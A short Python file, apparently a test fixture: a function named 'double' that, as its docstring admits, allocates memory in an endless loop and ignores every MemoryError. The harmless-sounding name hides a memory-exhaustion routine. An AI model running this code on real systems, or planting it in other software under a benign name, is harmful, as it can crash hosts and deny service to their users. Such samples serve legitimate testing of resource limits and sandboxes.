"""Fills memory, and whenever it is told that there is none, tries again."""


def double(x):
    hoard = []
    while True:
        try:
            hoard.append(bytearray(1 << 20))
        except MemoryError:
            pass
